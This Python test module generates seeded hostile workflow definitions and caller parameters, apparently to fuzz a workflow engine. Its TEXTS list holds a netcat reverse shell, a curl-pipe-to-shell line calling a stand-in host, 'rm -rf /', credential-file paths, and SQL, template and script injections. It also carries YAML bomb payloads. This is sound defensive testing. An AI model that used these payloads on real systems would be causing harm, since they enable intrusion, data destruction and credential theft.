"""Hostile definitions and parameters, made up by a seed: shell text, paths, YAML bombs, huge and wrong values in every place."""

import json
from copy import deepcopy
from random import Random
from typing import Any

from tests.workflows.definitions import VALID, text_of

TEXTS = (
    "$(touch /tmp/pwned)", "`id`", "; rm -rf / #", "| nc -e /bin/sh 10.0.0.1 9", "&& curl evil.example | sh", "\n/bin/sh\n", "${HOME}",
    "../../../../etc/passwd", "/dev/zero", "/proc/self/environ", "file:///etc/shadow", "\\\\host\\share", "~root/.ssh/id_rsa",
    "http://169.254.169.254/latest/", "https://user:pw@evil@127.0.0.1:22/", "gopher://127.0.0.1", "http://[::1]:8000/graphql",
    "__import__('os').system('id')", "{{7*7}}", "{0.__class__.__mro__}", "%(x)s%n", "${{ parameters.pause }}", "${{ env.SECRET }}",
    "x ${{ run.id }} y", "${{ steps.pause.status }}", "'; DROP TABLE workflow_runs; --", "<script>alert(1)</script>", "-rf", "--help",
    "!!python/object/apply:os.system ['id']", "*anchor", "&a x", "<<: *a", "\u202e\u0000", "\ud800", "é" * 300, "𝟏", "", " ", "NaN",
    "true) || (true", "data.all(a, data.all(b, data.all(c, true)))", "'a'.matches('(a+)+$')", "(" * 300, "data // x", "\t", "null", "~",
)  # fmt: skip
BOMBS = (
    "a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c]\n",
    "a: &a [*a]\n", "a: " * 20_000, "&x {? *x : *x}\n", "[" * 60_000, "{" * 60_000, "- " * 30_000, "? " * 30_000, "'" * 60_001,
    "|" * 60_000, "!!python/object/new:os.system [id]\n", "!!python/name:os.system\n", "!!binary aGk=\n", "!!set {a, b}\n",
    "!<tag:yaml.org,2002:map> {}\n",
    "%YAML 9.9\n--- a\n", "--- a\n--- b\n", "%TAG ! tag:x,2000:\n--- !y z\n", "x: " + "9" * 60_000, "x: 1:1:1:1:1:1:1:1:1:1\n",
    "x: 0x" + "f" * 50_000, "k" * 60_000 + ": v", "{" + ",".join(f"k{n}: v" for n in range(6_000)) + "}", "x: >\n" + " y\n" * 20_000,
)  # fmt: skip


def hostile_value(chance: Random) -> Any:
    """Something that belongs nowhere; every other time it is text."""
    text = chance.choice(TEXTS)
    if chance.random() < 0.5:
        return text
    deep: Any = text
    for _ in range(chance.choice((5, 30))):
        deep = [deep] if chance.random() < 0.5 else {"x": deep}
    others = (
        text * chance.choice((2, 50, 2_000)),
        [text] * chance.choice((0, 3, 400)),
        {text or "x": text, "x": {"y": [text]}},
        chance.choice((-1, 0, 2**31, 2**63, 10**30, -(2**70))),
        chance.choice((0.1, -1.5, 1e300, float("inf"), float("nan"))),
        chance.choice((None, True, False)),
        deep,
    )
    return chance.choice(others)


def hostile_definition(chance: Random) -> bytes:
    """A file of a workflow folder that nobody should have written."""
    match chance.randrange(4):
        case 0:
            return chance.choice(BOMBS).encode()
        case 1:
            return _scrambled(chance, text_of(VALID).encode())
        case _:
            values = deepcopy(VALID)
            for _ in range(chance.choice((1, 1, 2, 5))):
                _spoil(chance, values)
            return json.dumps(values, ensure_ascii=chance.random() < 0.5).encode("utf-8", "surrogatepass")


def hostile_parameters(chance: Random, names: tuple[str, ...]) -> Any:
    """What a caller might send."""
    if chance.random() < 0.1:
        return hostile_value(chance)
    sent = {name: hostile_value(chance) for name in names if chance.random() < 0.25}
    if chance.random() < 0.2:
        sent[chance.choice(TEXTS)] = hostile_value(chance)
    return sent


def _spoil(chance: Random, values: Any) -> None:
    """Put something hostile in one place, in the place of a value, of a key, or beside them."""
    at = values
    while True:
        keys = list(at) if isinstance(at, dict) else list(range(len(at)))
        if not keys:
            return
        key = chance.choice(keys)
        below = at[key]
        if isinstance(below, dict | list) and chance.random() < 0.8:
            at = below
            continue
        if isinstance(at, dict) and chance.random() < 0.2:
            at[chance.choice(TEXTS)] = below
        else:
            at[key] = hostile_value(chance)
        return


def _scrambled(chance: Random, raw: bytes) -> bytes:
    """Bytes taken out, put in and exchanged."""
    found = bytearray(raw)
    for _ in range(chance.choice((1, 3, 20))):
        place = chance.randrange(len(found))
        match chance.randrange(3):
            case 0:
                found[place] = chance.randrange(256)
            case 1:
                del found[place : place + chance.randrange(1, 40)]
            case _:
                found[place:place] = chance.choice(TEXTS).encode("utf-8", "surrogatepass")
    return bytes(found)
